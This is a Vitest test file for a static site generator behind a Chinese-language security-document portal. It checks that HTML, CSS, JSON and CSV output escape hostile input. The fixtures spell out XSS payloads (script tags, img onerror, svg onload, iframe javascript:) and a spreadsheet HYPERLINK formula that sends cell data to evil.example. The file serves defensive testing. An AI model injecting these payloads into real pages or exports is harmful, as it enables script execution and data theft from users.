import { parse, type HTMLElement } from 'node-html-parser';
import { beforeAll, describe, expect, it } from 'vitest';
import { cssString } from '../../src/lib/site/escape.ts';
import { buildFixture, type BuildResult } from './build.ts';

/**
 * test/fixtures/corpus-payloads: a document whose title, 修訂說明, owner, issuer, approver, headings and
 * body carry markup that would run script if written unescaped into HTML, a <script> data block, a
 * <style> block, or a spreadsheet (SoA fixture test/fixtures/soa/payloads.yaml).
 */
export const PAYLOADS_ENV = { PORTAL_SOA_FILE: 'test/fixtures/soa/payloads.yaml' };
const TITLE = `惡意標題</title><script>alert('title-element')</script></script><img src=x onerror=alert('title')></style><script>alert('style')</script>"'&amp;`;

/** Text as a browser shows it: entities decoded, spaces collapsed. */
const textOf = (element: HTMLElement | null) => element!.text.replace(/\s+/g, ' ').trim();

let site: BuildResult;
let pages: { file: string; html: string; root: HTMLElement }[];
beforeAll(() => {
	site = buildFixture('corpus-payloads', PAYLOADS_ENV);
	if (site.status !== 0) throw new Error(site.stderr);
	pages = site
		.files()
		.filter((file) => file.endsWith('.html'))
		.map((file) => ({ file, html: site.read(file), root: parse(site.read(file)) }));
});

describe('document data carrying markup, built into every page', () => {
	it('never appears as markup: every < of a payload is escaped for its context', () => {
		expect(pages.length).toBeGreaterThan(8);
		// Inside a quoted attribute value a < is a character (Astro writes " in values as &quot;): left out.
		const raw = /<(?:script>alert|img src=x|svg onload|iframe src=javascript|b onmouseover)/i;
		const markup = (html: string) => html.replace(/="[^"]*"/g, '=""');
		expect(pages.filter((page) => raw.test(markup(page.html))).map((page) => `${page.file}: ${raw.exec(markup(page.html))![0]}`)).toEqual(
			[],
		);
	});

	it('adds no element, handler or script to any page', () => {
		const found: string[] = [];
		for (const { file, root } of pages) {
			for (const element of root.querySelectorAll('*')) {
				for (const name of Object.keys(element.attributes)) if (/^on/i.test(name)) found.push(`${file}: <${element.tagName} ${name}>`);
			}
			for (const selector of ['img[src="x"]', 'iframe', 'svg[onload]', 'object', 'embed', 'b[onmouseover]']) {
				for (const element of root.querySelectorAll(selector)) found.push(`${file}: ${element.outerHTML.slice(0, 60)}`);
			}
			for (const script of root.querySelectorAll('script')) {
				if (script.getAttribute('type') === 'application/json') JSON.parse(script.rawText);
				else if (/alert\(/.test(script.rawText)) found.push(`${file}: <script>${script.rawText.slice(0, 60)}`);
			}
			for (const style of root.querySelectorAll('style')) if (style.rawText.includes('<')) found.push(`${file}: <style> holds <`);
			for (const title of root.querySelectorAll('title')) if (title.rawText.includes('<')) found.push(`${file}: <title> holds <`);
		}
		expect(found).toEqual([]);
	});

	it('shows the payloads as the text staff wrote', () => {
		const page = parse(site.read('documents/isms-p-001/index.html'));
		expect(textOf(page.querySelector('h1'))).toBe(TITLE);
		expect(textOf(page.querySelector('title'))).toBe(`ISMS-P-001 ${TITLE}（第 1.1 版）| 資安文件入口網`);
		const body = textOf(page.querySelector('.doc-body'));
		expect(body).toContain(`1. 目的 <img src=x onerror=alert('heading')>`);
		expect(body).toContain(`範例文字 <script>alert('body')</script> 與 <img src=x onerror=alert('code')> 只是文字`);
		expect(body).toContain(`字元參照 <b onmouseover=alert('entity')>粗體</b> 也只是文字`);
		expect(textOf(page.querySelector('.doc-header'))).toContain(`發行單位<iframe src=javascript:alert('issuedBy')></iframe>`);
		expect(textOf(page.querySelector('.doc-header'))).toContain(`核准--><svg onload=alert('approvedBy')>`);
		expect(textOf(parse(site.read('reviews/index.html')).querySelector('tr[data-doc-no="ISMS-P-001"]'))).toContain(
			`"><img src=x onerror=alert('owner')>`,
		);
		expect(textOf(parse(site.read('soa/index.html')).querySelector('main'))).toContain(`<img src=x onerror=alert('soa-evidence')>`);
		expect(textOf(page.querySelector('.revision-history'))).toContain(`</script><script>alert('changes-1.1')</script><!--`);
	});

	it('keeps the title a CSS string in the print style block', () => {
		const style = parse(site.read('documents/isms-p-001/index.html'))
			.querySelectorAll('style')
			.find((s) => s.rawText.includes('@page'))!;
		expect(style.rawText).toContain(`content: ${cssString(`ISMS-P-001 ${TITLE}`)};`);
	});

	it('keeps the titles data in the /as-of/ script block', () => {
		const data = JSON.parse(parse(site.read('as-of/index.html')).querySelector('#as-of-data')!.rawText) as {
			documents: { versions: { title: string }[] }[];
		};
		expect(data.documents.flatMap((d) => d.versions.map((v) => v.title))).toContain(TITLE);
	});

	it('writes SoA cells that would run as formulas with a leading quote in soa.csv', () => {
		const csv = site.read('soa.csv');
		expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""點此"")",`);
		expect(csv).toContain(`'@SUM(1+1)</td><script>alert('soa-justification')</script>`);
		expect(csv).toContain(`,'-2+3,`);
	});
});
